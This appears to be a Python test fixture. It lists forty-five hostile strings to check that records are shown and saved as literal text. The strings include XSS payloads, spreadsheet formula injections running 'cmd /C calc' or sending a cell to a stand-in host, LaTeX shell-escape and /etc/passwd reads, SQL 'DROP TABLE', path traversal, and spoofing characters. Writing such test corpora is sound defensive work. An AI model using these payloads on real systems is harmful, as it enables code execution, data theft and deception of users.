"""Forty-five texts that a record may hold and that something on the way to a reader may take for more than text.

Each is named for what it tries. All of them must be shown, saved and printed as the characters they are.
"""

HOSTILE = {
    # Markup and scripts
    "script element": "<script>alert(1)</script>",
    "image with a handler": '<img src=x onerror="alert(1)">',
    "image of another host": '<img src="https://outside.invalid/pixel.png">',
    "svg with a handler": "<svg/onload=alert(1)>",
    "end of an attribute": '" onmouseover="alert(1)" x=\'',
    "end of a title": "</title></desc></text><script>alert(1)</script>",
    "style that fetches": "<style>@import 'https://outside.invalid/a.css';</style>",
    "frame": '<iframe src="javascript:alert(1)"></iframe>',
    "form": '<form action="https://outside.invalid/"><input name=q autofocus onfocus=alert(1)></form>',
    "comment that hides the rest": "<!-- --!> <![CDATA[ <? ",
    "entities": "&lt;b&gt; &amp;amp; &#x3c;i&#62; &notanentity;",
    # Markdown, emoji, LaTeX, templates
    "Markdown image": "![x](https://outside.invalid/pixel.png)",
    "Markdown link": "[click](javascript:alert(1)) <https://outside.invalid/>",
    "Markdown block": "# Title\n\n- item\n\n> quote\n\n```\ncode\n```\n| a | b |\n|---|---|",
    "Markdown colour and badge": ":red[red] :blue-badge[badge] :small[x]",
    "emoji and icon names": ":skull: :material/delete: :streamlit:",
    "LaTeX": r"$\href{https://outside.invalid/}{x}$ $$\input{/etc/passwd}$$ \write18{id}",
    "template": "{{7*7}} ${7*7} <%= 7*7 %> #{7*7} {0.__class__} %(x)s",
    "figure template": "%{x} %{customdata[0]}<extra></extra><br><a href='https://outside.invalid/'>x</a>",
    # Formulas
    "formula": "=1+1",
    "formula with a command": "=cmd|' /C calc'!A0",
    "formula that fetches": '=HYPERLINK("https://outside.invalid/?"&A1,"x")',
    "formula by plus and minus": "-2+3+cmd|' /C calc'!A0",
    "formula by at": "@SUM(1+1)*cmd|' /C calc'!A0",
    "formula behind a tab": "\t=1+1",
    "formula behind delimiters": "x;=2+5;y,+2+5\t-2+5|@SUM(A1)\r\n=2+5\n\uff1d2+5",
    "formula behind quotes": '";=2+5;"\',=2+5,\'"="',
    "full-width formula": "\uff1d1+1",
    # Addresses
    "address that runs": "javascript:alert(1)",
    "address that runs, disguised": " \x01JaVa\tScRiPt:alert(1)//https://outside.invalid/",
    "address that holds a page": "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
    "address without a scheme": "//outside.invalid/share",
    "address of a file": "file:///etc/passwd",
    "address with another host in front": "https://acleddata.com@outside.invalid/",
    # Control and look-alike characters
    "bidirectional override": "safe \u202egnp.exe\u202c \u2066x\u2069",
    "zero-width and look-alike": "pa\u200bypal \u0430cled \ufeff\u00ad\u2060",
    "combining marks": "Z\u0351\u036b\u0343a\u0321\u034e\u033el\u0334\u0355\u0345g\u0321o" + "\u0301" * 60,
    "escapes of a terminal": "\x1b[2J\x1b[31mred\x1b]0;title\x07\x1b]8;;https://outside.invalid/\x1b\\x\x9b31m",
    "control characters": "a\x01b\x08c\x7fd\x85e\u2028f\u2029g\rh",
    "NUL": "a\x00b",
    # Queries, paths, delimiters, size
    "SQL": "'; DROP TABLE incidents; -- \" OR 1=1 /* %_\\",
    "path": "../../../../etc/passwd\\..\\..\\C:\\Windows\\win.ini %2e%2e%2f",
    "delimiters and quotes": 'a,b;c\td|e "f" \'g\' ""h"" i\r\nj',
    "looks like another value": "NULL",
    "very long": "<b>long & “wide” " * 2_000,
}
# A cell of a file with NUL is rejected by a load, which is another promise; these can be loaded.
LOADABLE = {name: text for name, text in HOSTILE.items() if "\0" not in text}
